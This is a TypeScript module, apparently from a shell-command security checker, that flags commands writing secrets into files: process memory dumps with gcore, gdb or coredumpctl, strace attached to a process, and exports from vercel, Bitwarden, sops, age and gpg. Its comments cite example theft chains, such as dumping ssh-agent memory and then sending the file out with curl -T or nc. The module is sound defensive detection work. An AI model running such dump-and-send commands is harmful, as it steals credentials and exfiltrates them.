import type { Invocation } from './command.ts';
import type { Secret } from './credentials.ts';
import type { PathUse } from './path-access.ts';
import { capturedFiles } from './user-captures.ts';

/**
 * The programs that write secrets into a file their own words name, not on their output
 * (exfiltration.ts reads such a file as written from secrets, as `env > /tmp/e` is): a process's
 * memory dumped (`gcore -o /tmp/agent PID` writes `/tmp/agent.PID`; `gdb -p PID -batch -ex
 * 'generate-core-file /tmp/g.core'`; `coredumpctl dump ssh-agent -o /tmp/core`), the data a process
 * reads and writes traced from outside (`strace -p PID -o /tmp/t`, `ltrace -p`), and a hosting
 * service's environment pulled into a file (`vercel env pull /tmp/e`, `.env.local` when none is
 * named), a password store's or a secret file's export (`bw export --output F`, `sops -d --output
 * F`, `age -d -o F`, `gpg --export-secret-keys -o F`). Sent by a later command of the line (`curl -T /tmp/core`, `nc h 80 < /tmp/g.core`), they
 * leave the machine. Written, such a file is made, not read: `vercel env pull .env.local` passes.
 */

/** A file a program writes secrets into: its path as the line names it (`*`: the rest of a name only the program picks), and its word. */
export interface FilledFile {
  file: string;
  word: Invocation['args'][number] | null;
}

/** gdb's commands that dump the process it attached to into a file. */
const GDB_DUMPS = /^\s*(?:generate-core-file|gcore|dump\s+(?:binary\s+)?memory)\s+(\S+)/;

/** The files `inv` fills with secrets, and the secret each then holds; empty for any other command. */
export function secretFilesWritten(inv: Invocation): { files: FilledFile[]; secret: Secret } | null {
  const a = inv.args;
  const v = a.map((w) => w.value);
  const valueOf = (names: readonly string[]): FilledFile[] => {
    const out: FilledFile[] = [];
    for (let i = 0; i < a.length; i++) {
      const eq = v[i]!.indexOf('=');
      if (names.includes(v[i]!) && a[i + 1]) out.push({ file: v[i + 1]!, word: a[i + 1]! });
      else if (eq > 0 && v[i]!.startsWith('--') && names.includes(v[i]!.slice(0, eq))) out.push({ file: v[i]!.slice(eq + 1), word: a[i]! });
    }
    return out;
  };
  const memory = (what: string, files: FilledFile[]) => (files.length ? { files, secret: { what, hosts: [] } } : null);
  const exported = memory;
  switch (inv.program) {
    case 'gcore': {
      // `-o PREFIX`: one file a process, PREFIX.PID (`core.PID` without it)
      const prefix = valueOf(['-o'])[0] ?? { file: 'core', word: null };
      return memory('gcore', [prefix, { file: `${prefix.file}.*`, word: null }]);
    }
    case 'gdb': {
      if (!v.some((x) => /^(-p|--pid)(=|$)/.test(x) || x === 'attach')) return null;
      const files = valueOf(['-ex', '--eval-command'])
        .map((f) => GDB_DUMPS.exec(f.file)?.[1])
        .filter((f): f is string => f !== undefined)
        .map((file) => ({ file, word: null }));
      return memory('gdb generate-core-file', files);
    }
    case 'coredumpctl':
      return /^(dump|debug|gdb)$/.test(v.find((x) => !x.startsWith('-')) ?? '') ? memory('coredumpctl dump', valueOf(['-o', '--output'])) : null;
    case 'strace':
    case 'ltrace':
      // attached to a running process (`-p PID`): what it reads and writes, its secrets among them
      return v.some((x) => /^(-p|--attach)(=|$)/.test(x)) ? memory(`${inv.program} -p`, valueOf(['-o', '--output'])) : null;
    case 'vercel': {
      const ops = v.filter((x) => !x.startsWith('-'));
      if (ops[0] !== 'env' || ops[1] !== 'pull') return null;
      const at = v.indexOf('pull');
      const named = a.slice(at + 1).find((w) => !w.value.startsWith('-'));
      return { files: [named ? { file: named.value, word: named } : { file: '.env.local', word: null }], secret: { what: 'vercel env pull', hosts: [] } };
    }
    // a password store's or a secret file's export written to a file: `bw export --output F`, `sops -d --output F`, `age -d -o F`, `gpg --export-secret-keys -o F`
    case 'bw':
      return v.find((x) => !x.startsWith('-')) === 'export' ? exported('bw export', valueOf(['--output'])) : null;
    case 'sops':
      return v.some((x) => x === '-d' || x === '--decrypt' || x === 'decrypt') ? exported('sops --decrypt', valueOf(['--output'])) : null;
    case 'age':
    case 'rage':
      return v.some((x) => x === '-d' || x === '--decrypt') ? exported(`${inv.program} --decrypt`, valueOf(['-o', '--output'])) : null;
    case 'gpg':
    case 'gpg2':
      return v.some((x) => /^--export-secret-(?:sub)?keys$/.test(x)) ? exported('gpg --export-secret-keys', valueOf(['-o', '--output'])) : null;
    default: {
      // `scrot /tmp/s.png`, `tcpdump -w /tmp/c.pcap`: what captures the user or the wire (user-captures.ts)
      const captured = capturedFiles(inv);
      return captured ? { files: captured.files, secret: { what: captured.what, hosts: [] } } : null;
    }
  }
}

/** `uses` with the files `inv` fills with secrets written, not read (`vercel env pull .env.local` makes the file). */
export function filledFileUses(inv: Invocation, uses: PathUse[]): PathUse[] {
  const filled = secretFilesWritten(inv);
  if (!filled) return uses;
  const words = new Set(filled.files.map((f) => f.word).filter((w) => w !== null));
  return uses.map((u): PathUse => (words.has(u.word) && u.access === 'read' ? { ...u, access: 'write' } : u));
}
